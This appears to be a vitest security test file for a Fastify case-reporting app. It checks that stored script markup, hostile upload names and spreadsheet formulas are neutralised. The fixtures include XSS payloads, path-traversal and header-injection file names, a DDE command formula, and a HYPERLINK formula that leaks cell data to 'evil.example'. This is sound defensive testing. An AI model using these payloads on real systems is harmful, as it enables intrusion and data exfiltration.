import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { strFromU8, unzipSync } from 'fflate';
import papaparse from 'papaparse';
import { describe, expect, test } from 'vitest';
import { runImport } from '../../src/features/cases/imports/run-import.ts';
import { type TestHouse, withHouse, withOwnDatabase } from '../db.ts';
import { givenAccount } from '../given-identity.ts';
import { jpeg } from '../given-tasks.ts';
import { ask, asked, tokenOf, withServer } from '../http.ts';
import { type ImportAnswer, mappingOf } from './planted.ts';

const village = '510117001001';
const withApp = (work: Parameters<typeof withServer<TestHouse>>[0]) => withHouse(withServer<TestHouse>(work));
/** An import tells its progress on a second connection, so that it needs a database of its own. */
const withImports = (work: Parameters<typeof withServer<TestHouse>>[0]) => withOwnDatabase(withServer<TestHouse>(work));

async function workerOf(app: FastifyInstance, house: TestHouse): Promise<string> {
  const { userName } = await givenAccount(house, {
    posts: [{ roles: ['epidemiologist', 'commander', 'grid-worker'] }],
  });
  return tokenOf(app, userName);
}

const report = (app: FastifyInstance, token: string, more: object) =>
  asked(app, 'POST /cases', {
    token,
    body: { disease: 'covid19', classification: 'confirmed', areaCode: village, person: { name: '某人' }, ...more },
  });

/** Imports a list to the end; columns nothing is known of stay as they are. */
async function importList(app: FastifyInstance, house: TestHouse, token: string, csv: string): Promise<string> {
  const record = await asked<ImportAnswer>(app, `POST /imports?fileName=list.csv&areaCode=${village}`, {
    token,
    file: Buffer.from(csv),
  });
  await asked(app, `POST /imports/${record.id}/check`, {
    token,
    body: {
      mapping: mappingOf(record),
      defaults: { disease: 'covid19', areaCode: village, classification: 'confirmed' },
    },
  });
  await runImport(house, { importId: record.id });
  await asked(app, `POST /imports/${record.id}/apply`, { token });
  await runImport(house, { importId: record.id });
  const done = await asked<{ state: string; problem: unknown }>(app, `GET /imports/${record.id}`, { token });
  expect(done).toMatchObject({ state: 'applied', problem: null });
  return record.id;
}

describe('stored scripts', () => {
  const markup = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '"><svg/onload=alert(1)>',
    `javascript:alert('1')`,
    '</title><script>1</script>',
    '{{constructor.constructor("alert(1)")()}}',
    '<a href="data:text/html,<script>1</script>">',
  ];

  test(
    'come back as data of a JSON answer that no browser takes for a page',
    withImports(async (app, house) => {
      const token = await workerOf(app, house);
      for (const name of markup)
        await report(app, token, {
          person: { name },
          notes: name,
          hospital: name,
          symptoms: [name.slice(0, 60)],
          externalId: name,
        });
      const id = await importList(
        app,
        house,
        token,
        `姓名,报告日期,备注,<b>列</b>\n${markup.map((each) => `"${each.replaceAll('"', '""')}",2026-03-01,x,"${each.replaceAll('"', '""')}"`).join('\n')}\n`,
      );
      for (const route of [
        'GET /cases',
        'GET /people',
        `GET /imports/${id}`,
        `GET /imports/${id}/rows`,
        'GET /duplicates',
        'GET /cases/count',
        'GET /<script>alert(1)</script>',
      ]) {
        const answer = await ask(app, route, { token });
        expect([route, answer.headers['content-type']]).toEqual([route, 'application/json; charset=utf-8']);
        expect(answer.headers['x-content-type-options']).toBe('nosniff');
        expect(answer.headers['content-security-policy']).toMatch(/default-src 'self'.*object-src 'none'/);
      }
      const { rows } = await asked<{ rows: { cells: Record<string, string> }[] }>(app, `GET /imports/${id}/rows`, {
        token,
      });
      expect(rows.map(({ cells }) => cells['姓名'])).toEqual(markup);
    }),
  );

  test(
    'would not run: the policy allows scripts from our own files only, neither inline nor evaluated',
    withApp(async (app) => {
      const policy = String((await ask(app, 'GET /health')).headers['content-security-policy']);
      const scripts = /(?:^|;)script-src ([^;]+)/.exec(policy)?.[1];
      expect(scripts).toBe("'self'");
      expect(policy).toMatch(/script-src-attr 'none'/);
      expect(policy).not.toMatch(/unsafe-eval|https?:|\*/);
      expect(policy.split(';').filter((each) => each.includes("'unsafe-inline'"))).toEqual([
        expect.stringMatching(/^style-src /),
      ]);
    }),
  );

  test('have no way into a page: nothing in our pages makes markup out of text', () => {
    const pages = filesIn('src').filter((file) => /\.tsx?$/.test(file) && !/\.test\./.test(file));
    expect(
      pages.filter((file) =>
        /dangerouslySetInnerHTML|\.innerHTML|\.outerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function\(/.test(
          readFileSync(file, 'utf8'),
        ),
      ),
    ).toEqual([]);
  });
});

describe('files', () => {
  const task = async (app: FastifyInstance, token: string) => {
    const me = await asked<{ id: string }>(app, 'GET /me', { token });
    return asked<{ id: string }>(app, 'POST /tasks', {
      token,
      body: { title: { en: 'Visit' }, areaCode: village, dueAt: '2026-03-06T00:00:00Z', owners: { individual: me.id } },
    });
  };

  test(
    'that a browser would run are not kept as evidence, whatever their name says',
    withApp(async (app, house) => {
      const token = await workerOf(app, house);
      const { id } = await task(app, token);
      const pages = [
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        '<!doctype html><script>1</script>',
        '<?xml version="1.0"?><x/>',
        'GIF89a<script>',
        'MZ\x90\0',
        '#!/bin/sh',
        'PK\x03\x04',
        '',
      ];
      for (const content of pages) {
        const answer = await ask(app, `POST /tasks/${id}/evidence-files?fileName=photo.jpg`, {
          token,
          file: Buffer.from(content, 'latin1'),
        });
        expect([content.slice(0, 10), answer.statusCode]).toEqual([content.slice(0, 10), 422]);
      }
      expect(await asked(app, `GET /tasks/${id}`, { token })).toMatchObject({ evidence: [] });
    }),
  );

  const names = [
    '../../../etc/passwd',
    '..\\..\\windows\\system32\\x.exe',
    'photo.html',
    'x.svg',
    'a\r\nSet-Cookie: lianfang_session=evil',
    'a"; filename="evil.html',
    'a\u0000.html',
    '\u202egnp.exe',
    `${'长'.repeat(400)}.jpg`,
    '.htaccess',
    '',
    '%2e%2e%2fkeys.json',
    '<script>.jpg',
  ];

  test(
    'with hostile names are sent as what their bytes are, to be saved under a harmless name, and touch no other place on disk',
    withApp(async (app, house) => {
      const token = await workerOf(app, house);
      const { id } = await task(app, token);
      const before = filesIn(house.dataDir);
      for (const [index, name] of names.entries()) {
        const { file } = await asked<{ file: { id: string; name: string } }>(
          app,
          `POST /tasks/${id}/evidence-files?fileName=${encodeURIComponent(name)}`,
          {
            token,
            file: jpeg(`<script>alert(${index})</script>`),
          },
        );
        expect(file.name).toMatch(/^[^/\\<>"\p{C}]{1,80}\.jpg$/u);
        const answer = await ask(app, `GET /tasks/${id}/files/${file.id}`, { token });
        expect([answer.statusCode, answer.headers['content-type'], answer.headers['x-content-type-options']]).toEqual([
          200,
          'image/jpeg',
          'nosniff',
        ]);
        expect(answer.headers['content-disposition']).toMatch(/^attachment; filename\*=UTF-8''[\w.%!'()*~-]+\.jpg$/);
        expect(answer.headers['set-cookie']).toBeUndefined();
        expect(answer.headers['content-security-policy']).toContain("object-src 'none'");
      }
      const kept = filesIn(house.dataDir)
        .filter((file) => !before.includes(file))
        .map((file) => file.slice(house.dataDir.length));
      expect(kept.length).toBe(names.length);
      for (const file of kept) expect(file).toMatch(/^\/files\/[0-9a-f]{2}\/[0-9a-f]{64}$/);
    }),
  );

  test(
    'of an import keep only the last part of their name',
    withApp(async (app, house) => {
      const token = await workerOf(app, house);
      for (const name of names) {
        const answer = await ask(app, `POST /imports?areaCode=${village}&fileName=${encodeURIComponent(name)}`, {
          token,
          file: Buffer.from('姓名,报告日期\n某人,2026-03-01\n'),
        });
        expect([name, answer.statusCode]).toEqual([
          name,
          expect.toSatisfy((status: number) => status === 200 || status === 422),
        ]);
        if (answer.statusCode === 200) expect(answer.json<{ fileName: string }>().fileName).not.toMatch(/[/\\]/);
      }
    }),
  );

  test(
    "of another task are not sent under this one's address",
    withApp(async (app, house) => {
      const token = await workerOf(app, house);
      const [one, other] = [await task(app, token), await task(app, token)];
      const { file } = await asked<{ file: { id: string } }>(
        app,
        `POST /tasks/${one.id}/evidence-files?fileName=a.jpg`,
        { token, file: jpeg() },
      );
      expect((await ask(app, `GET /tasks/${other.id}/files/${file.id}`, { token })).statusCode).toBe(404);
    }),
  );
});

describe('formulas of strangers in an export', () => {
  const formulas = [
    `=HYPERLINK("https://evil.example?"&A1,"x")`,
    `=cmd|'/c calc'!A1`,
    '+1+1',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '＝1+1',
    '=1\n=2',
    `'=1`,
  ];

  test(
    'stand as text: in cells, in free columns, and in the names of these columns',
    withImports(async (app, house) => {
      const token = await workerOf(app, house);
      for (const formula of formulas)
        await report(app, token, { notes: formula, hospital: formula, externalId: formula, reportingUnit: formula });
      const quoted = formulas.map((each) => `"${each.replaceAll('"', '""')}"`);
      await importList(app, house, token, `姓名,报告日期,${quoted.join(',')}\n某人,2026-03-01,${quoted.join(',')}\n`);

      const csv = (await ask(app, 'GET /cases/export?format=csv', { token })).body.replace(/^\ufeff/, '');
      const cells = papaparse.parse<string[]>(csv).data.flat();
      expect(cells.filter((cell) => cell.includes('HYPERLINK')).length).toBeGreaterThan(4);
      expect(cells.filter((cell) => /^[\s]*[=+\-@＝＋－＠\t\r]/.test(cell) && !/^[+-]?[\d.]+$/.test(cell))).toEqual([]);

      const xlsx = await ask(app, 'GET /cases/export?format=xlsx', { token });
      expect(xlsx.headers['content-disposition']).toMatch(/^attachment; /);
      const parts = Object.entries(unzipSync(xlsx.rawPayload))
        .filter(([name]) => name.endsWith('.xml'))
        .map(([, bytes]) => strFromU8(bytes));
      expect(parts.join('')).toContain('HYPERLINK');
      expect(parts.filter((part) => /<f[ >]|t="str"|<definedName|externalLink|ddeLink/.test(part))).toEqual([]);
    }),
  );

  test(
    'all exports are files to be saved, and say that they are of a drill',
    withApp(async (app, house) => {
      const token = await workerOf(app, house);
      await report(app, token, {});
      for (const format of ['csv', 'xlsx', 'ndjson']) {
        const answer = await ask(app, `GET /cases/export?format=${format}`, { token });
        expect(answer.headers['content-disposition']).toMatch(
          new RegExp(`^attachment; filename\\*=UTF-8''DRILL-cases-[\\d-]+\\.${format}$`),
        );
        expect(answer.headers).toMatchObject({ 'x-content-type-options': 'nosniff', 'cache-control': 'no-store' });
      }
    }),
  );
});

function filesIn(folder: string): string[] {
  return readdirSync(folder, { withFileTypes: true }).flatMap((entry) =>
    entry.isDirectory() ? filesIn(join(folder, entry.name)) : [join(folder, entry.name)],
  );
}
